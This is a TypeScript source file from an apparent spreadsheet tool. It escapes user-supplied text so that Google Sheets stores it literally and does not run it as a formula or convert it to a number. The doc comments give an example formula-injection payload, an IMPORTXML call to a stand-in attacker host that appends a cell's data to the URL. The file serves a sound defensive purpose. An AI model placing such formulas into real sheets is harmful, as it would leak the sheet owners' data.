/**
 * The one guard for text LeadGrade writes into a sheet that came from people (a lead's name, a
 * source, an owner, a note, a reason, a grade label). Sheets reads a value a script sets the way
 * it reads typing: "=…" becomes a live formula (`=IMPORTXML("http://…"&A2)` would send the
 * sheet's data out), "+…", "-…" and "@…" are parsed as one and show #ERROR!, and a leading
 * apostrophe is taken as "keep this as text" and dropped; "0138" becomes the number 138. Every
 * such write goes through here: text that Sheets would not keep as typed gets a leading
 * apostrophe, so the cell holds exactly the text (the apostrophe is not part of the value).
 * Numbers, dates and booleans pass unchanged.
 */

/**
 * Text Sheets would not store as typed: a formula start, a leading apostrophe it would eat, or
 * text made only of digits and number or date punctuation ("0138", "2026-11-01", "12:30"), which
 * it would turn into a number, a date or a time.
 */
const NOT_KEPT_AS_TYPED = /^(?:[=+\-@']|[\d\s.,/:%$¥€-]*\d[\d\s.,/:%$¥€-]*$)/;

/**
 * A cell value that Sheets will store as exactly this text (or this number, date, boolean).
 *
 * @example
 * keepAsText('=IMPORTXML("http://evil.test/?"&A2,"//a")') // '\'=IMPORTXML("http://evil.test/?"&A2,"//a")'
 * keepAsText("张三") // "张三"
 * keepAsText(42) // 42
 */
export function keepAsText<T>(value: T): T | string {
  return typeof value === "string" && NOT_KEPT_AS_TYPED.test(value) ? `'${value}` : value;
}

/** {@link keepAsText} over a block of rows, for one `setValues`. */
export function keepRowsAsText<T>(rows: readonly (readonly T[])[]): (T | string)[][] {
  return rows.map((row) => row.map(keepAsText));
}
